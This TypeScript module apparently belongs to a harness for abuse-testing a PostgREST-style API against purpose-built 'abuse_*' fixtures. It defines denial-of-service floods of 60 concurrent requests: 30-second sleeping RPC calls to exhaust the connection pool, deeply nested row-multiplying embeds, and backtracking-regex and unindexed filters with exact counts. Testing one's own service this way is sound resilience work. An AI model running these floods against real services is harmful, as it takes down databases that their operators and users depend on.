/** Requests that occupy a database connection for as long as possible. */
import type { Attack, AttackContext } from '../../attacker/attack.ts';
import { apiHeaders, flood } from '../../attacker/http.ts';

const SOCKETS = 60;

/** Calls a function that sleeps. */
export const sleepingCalls: Attack = {
  name: 'data/slow-calls',
  description: 'calls of a function that sleeps 30 s, anonymous, 60 at once',
  cost: 'every connection of the pool, until the statement timeout',
  run: (context) => sleepAs(context, () => undefined),
};

/** Calls a function that sleeps, from several accounts. */
export const sleepingCallsOfAccounts: Attack = {
  ...sleepingCalls,
  name: 'data/slow-calls-accounts',
  description: 'calls of that function by 5 accounts from one address, whose statement timeout is longer',
  run: (at) => sleepAs(at, (index) => at.accounts[index % at.accounts.length]?.accessToken),
};

/** Selects embeds that multiply rows. */
export const crossJoins: Attack = {
  name: 'data/cross-joins',
  description: 'five levels of embeds with 200 rows each, anonymous, 60 at once',
  cost: 'processor and memory of PostgreSQL, and every connection of the pool',
  run: (context) => {
    const select = 'id,abuse_nodes(id,abuse_hubs(id,abuse_nodes(id,abuse_hubs(id,abuse_nodes(id)))))';
    return flood(context, {
      sockets: SOCKETS,
      request: () => ({ path: `/rest/v1/abuse_hubs?select=${select}`, headers: apiHeaders(context) }),
    });
  },
};

/** Filters with backtracking regular expressions and with searches that no index supports. */
export const slowFilters: Attack = {
  name: 'data/slow-filters',
  description: 'regular expressions, searches and exact counts over 20,000 rows of 1 KB, 60 at once',
  cost: 'processor of PostgreSQL',
  run: (context) => {
    const filters = [
      `text=match.${encodeURIComponent('(([a-f0-9]+)+[a-f]+)+x$')}`,
      `text=ilike.*${'a*b*'.repeat(20)}`,
      'text=fts.abc&order=text.desc',
      'or=(tags->>n.eq.1,text.like.*zz*)&order=tags->kind,text',
    ];
    return flood(context, {
      sockets: SOCKETS,
      request: (index) => ({
        path: `/rest/v1/abuse_big?select=id&limit=5&${filters[index % filters.length]}`,
        headers: { ...apiHeaders(context), prefer: 'count=exact' },
      }),
    });
  },
};

function sleepAs(context: AttackContext, tokenOf: (index: number) => string | undefined): Promise<void> {
  return flood(context, {
    sockets: SOCKETS,
    request: (index) => ({
      path: '/rest/v1/rpc/abuse_sleep',
      headers: apiHeaders(context, tokenOf(index)),
      body: '{"seconds":30}',
    }),
  });
}
